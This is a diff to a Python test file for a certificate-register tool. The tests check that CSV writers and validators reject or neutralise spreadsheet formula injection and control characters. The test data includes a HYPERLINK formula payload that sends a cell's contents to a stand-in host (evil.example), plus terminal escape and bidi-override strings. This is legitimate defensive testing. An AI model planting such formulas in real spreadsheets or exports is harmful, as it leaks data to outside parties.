@@ -12,10 +12,11 @@ from pathlib import Path
 
 import pytest
 from conftest import run_ustaz
+from sealed import plain_certificate
 
 from ustaz.calendar import valid_until
 from ustaz.certificates import codes
-from ustaz.certificates.register import Certificate, Status
+from ustaz.certificates.register import Status
 from ustaz.certificates.writer import append
 from ustaz.checks import Context
 from ustaz.checks.table_cells import CSV_CONTROL, CSV_FORMULA, table_cells
@@ -26,13 +27,15 @@ TODAY = dt.date(2026, 11, 23)
 PAYLOADS = [start + 'HYPERLINK("http://evil.example/?x="&A1,"x")' for start in FORMULA_START]
 
 
-def _with_register_row(project: Path) -> None:
+def _with_register_row(project: Path) -> str:
+    """A sealed row in the register; returns its code."""
     issued = dt.date(2026, 10, 23)
     code = codes.new_code()
-    append(project, [Certificate(code=code, shown_code=codes.display(code), program="robotics-basics",
+    append(project, [plain_certificate(code=code, shown_code=codes.display(code), program="robotics-basics",
                                  cohort="2026-rb-kk-01", holder="Тестова Айгерим", hours=80,
                                  course_ended=dt.date(2026, 10, 20), issued=issued,
                                  valid_until=valid_until(issued, 3), status=Status.ISSUED)])
+    return code
 
 
 def _tables(project: Path) -> dict[str, dict[str, str]]:
@@ -47,8 +50,11 @@ def _tables(project: Path) -> dict[str, dict[str, str]]:
 
 
 def _set_cell(path: Path, column: str, value: str) -> int:
-    """Put `value` into `column` of the table's first data row; the row's line."""
+    """Put `value` into `column` of the table's first data row (a table of its header alone, e.g. an aggregate not
+    published yet, is given one of empty cells); the row's line."""
     rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    if len(rows) == 1:
+        rows.append([""] * len(rows[0]))
     rows[1][rows[0].index(column)] = value
     out = io.StringIO()
     csv.writer(out, lineterminator="\n").writerows(rows)
@@ -81,7 +87,7 @@ def test_every_text_cell_of_every_public_table_is_held_to_the_rule(project: Path
             if type_ in ("string", "any"):
                 # (a NUL makes any other table unreadable text, the file check's finding; the register is
                 # read as columns, so there it is this check's)
-                control = "x\x00y" if "certificates" in table else "x\x1b[2Jy\u202e"
+                control = "x\x00y" if table.startswith("data/certificates/") else "x\x1b[2Jy\u202e"
                 for payload in (PAYLOADS[tried % len(PAYLOADS)], "-1", control):
                     line = _set_cell(path, column, payload)
                     code = CSV_FORMULA if payload[0] in FORMULA_START else CSV_CONTROL
@@ -145,10 +151,9 @@ def test_every_csv_writer_neutralises_a_formula() -> None:
 
 
 def test_the_register_writer_refuses_a_formula_reason(project: Path) -> None:
-    _with_register_row(project)
+    code = _with_register_row(project)
     path = project / "data/certificates/2026.csv"
     before = path.read_bytes()
-    code = next(r[0] for r in csv.reader(io.StringIO(before.decode(), newline="")) if r[0] != "code")
     for reason in (EVIL, "ok\x1b[2J"):
         r = run_ustaz("register", "revoke", code, "--reason", reason, "--date", "2026-11-01", cwd=project)
         assert r.returncode == 2 and "formula" in r.stderr and "Traceback" not in r.stderr, r
